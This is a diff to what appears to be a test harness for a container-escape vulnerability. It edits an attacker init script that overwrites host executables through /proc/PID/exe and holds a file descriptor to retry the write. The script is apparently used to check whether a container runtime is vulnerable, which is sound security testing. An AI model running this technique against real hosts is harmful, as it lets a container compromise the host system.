@@ -22,7 +22,8 @@ def sha256(path):
 # The container's init is the attacker.  For every process it can see it tries to write the
 # process's executable through /proc/PID/exe, and it keeps the first foreign executable open
 # read-only so it can retry the write through /proc/self/fd/3 once the runtime has exited
-# (the original exploit's trick, since the binary is busy while it runs).
+# (the original exploit's trick, since the binary is busy while it runs). "command exec": a
+# plain exec whose redirection fails (the process just exited) ends the shell.
 ATTACKER = r"""#!/bin/sh
 log=/tmp/attack.log
 : > $log
@@ -36,7 +37,7 @@ while [ ! -e /tmp/stop ]; do
     [ $d/exe -ef /bin/busybox ] && continue
     [ -e $d/exe ] && echo "saw $p" >> $log
     (echo PWNED >> $d/exe) 2>/dev/null && echo "WROTE $p" >> $log
-    if [ -z "$held" ] && exec 3< $d/exe 2>/dev/null; then
+    if [ -z "$held" ] && command exec 3< $d/exe 2>/dev/null; then
       held=$p; echo "held $p $(readlink /proc/$$/fd/3)" >> $log
     fi
   done
